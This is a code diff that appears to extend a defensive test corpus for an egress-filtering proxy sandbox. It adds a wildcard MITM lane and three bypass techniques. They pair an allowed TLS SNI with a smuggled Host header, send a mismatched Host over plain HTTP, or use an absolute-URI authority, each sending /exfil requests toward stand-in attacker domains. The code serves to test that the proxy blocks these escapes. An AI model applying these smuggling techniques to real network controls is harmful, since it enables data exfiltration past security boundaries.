@@ -53,17 +53,26 @@ def build_world(tmp: Path) -> World:
     always populates the bridge CIDR now): the corpus must grade the
     policy that ships, not a stricter test-only one.  The gateway
     exclusion keeps host ports out of the bypass."""
+    from ..config.schema import PathRule
+
     rules = [
         EgressRule(dst="*.example.com", proto="https"),
         EgressRule(dst="exact.example.org", proto="https"),
         EgressRule(dst="github.com", proto="ssh", port=22),
         EgressRule(dst="plain.example.net", proto="http"),
+        # wildcard MITM lane (path rules force inspection): the surface
+        # techniques 31+ attack -- its DFP upstream resolves the request
+        # authority, so vhost scoping is load-bearing
+        EgressRule(dst="*.mitm.example.net", proto="https",
+                   path_rules=[PathRule(path="/", action="allow")],
+                   path_default="allow"),
     ]
     w = World(rules, tmp, intra_net=("10.99.0.0", 24))
     w.add_origin(["example.com", "api.example.com", "tun1.example.com"])
     w.add_origin(["exact.example.org", "sub.exact.example.org"])
     w.add_origin(["github.com"], banner=b"SSH-2.0-OpenSSH_9.6\r\n")
     w.add_origin(["plain.example.net"])
+    w.add_origin(["mitm.example.net", "api.mitm.example.net"])
     w.add_attacker_host(ATTACKER_DOMAIN)
     w.add_attacker_host("attacker.net")
     w.add_attacker_host("evilexample.com")
@@ -379,9 +388,89 @@ def t30(w):
     return f"proxied, code={res.code}"
 
 
+def _smuggle_https(w: World, name: str, sni: str, host: str,
+                   target: str = "/exfil?d=s3cr3t") -> str:
+    """Handshake with an ALLOWED SNI, then smuggle a foreign Host."""
+    import ssl
+
+    rcode, ips = w.dig(sni)
+    if rcode != 0 or not ips:
+        return f"{sni} did not resolve (rcode={rcode})"
+    try:
+        sock = w.open_tcp(ips[0], 443, technique=name)
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+    try:
+        ctx = ssl.create_default_context(cafile=str(w.ca_bundle))
+        tls = ctx.wrap_socket(sock, server_hostname=sni)
+        tls.sendall(f"GET {target} HTTP/1.1\r\nhost: {host}\r\n"
+                    "connection: close\r\n\r\n".encode())
+        out = b""
+        try:
+            while len(out) < 4096:
+                chunk = tls.recv(4096)
+                if not chunk:
+                    break
+                out += chunk
+        except OSError:
+            pass
+        tls.close()
+        status = out.split(b"\r\n", 1)[0].decode("latin-1", "replace")
+        time.sleep(0.1)
+        return f"proxy answered: {status or '<closed>'}"
+    except (OSError, ValueError) as e:
+        return f"handshake/send failed: {e.__class__.__name__}"
+    finally:
+        sock.close()
+
+
+# Techniques 31+ go BEYOND the reference's 30 payload classes: header-
+# authority confusion against the MITM/HTTP lanes.  31 found a real
+# escape during development (catch-all MITM vhosts let Host smuggling
+# ride the DFP cluster to arbitrary upstreams); the corpus pins the fix.
+
+@technique("31-sni-host-mismatch")
+def t31(w):
+    return _smuggle_https(w, "31-sni-host-mismatch",
+                          "api.mitm.example.net", ATTACKER_DOMAIN)
+
+
+@technique("32-host-mismatch-plain-http")
+def t32(w):
+    rcode, ips = w.dig("plain.example.net")
+    if rcode != 0 or not ips:
+        return f"plain.example.net did not resolve (rcode={rcode})"
+    try:
+        sock = w.open_tcp(ips[0], 80, technique="32-host-mismatch-plain-http")
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+    try:
+        sock.sendall(b"GET /exfil HTTP/1.1\r\nhost: " +
+                     ATTACKER_DOMAIN.encode() + b"\r\nconnection: close\r\n\r\n")
+        sock.settimeout(2.0)
+        try:
+            out = sock.recv(256)
+        except OSError:
+            out = b""
+        time.sleep(0.1)
+        return f"proxy answered: {out.split(b'\r\n', 1)[0].decode('latin-1', 'replace')}"
+    finally:
+        sock.close()
+
+
+@technique("33-absolute-uri-authority")
+def t33(w):
+    # absolute-form request line: some proxies derive :authority from the
+    # URI, overriding Host -- must not become an exfil channel either
+    return _smuggle_https(w, "33-absolute-uri-authority",
+                          "api.mitm.example.net", "api.mitm.example.net",
+                          target=f"http://{ATTACKER_DOMAIN}/exfil")
+
+
 def run_corpus(base: Path) -> dict:
-    """Drive all 30 techniques through one World; grade per-technique
-    capture counts.  Returns the scorecard dict (never raises)."""
+    """Drive every technique (30 reference classes + the beyond-reference
+    31+ set) through one World; grade per-technique capture counts.
+    Returns the scorecard dict (never raises)."""
     w = build_world(base / "world")
     results = []
     try:
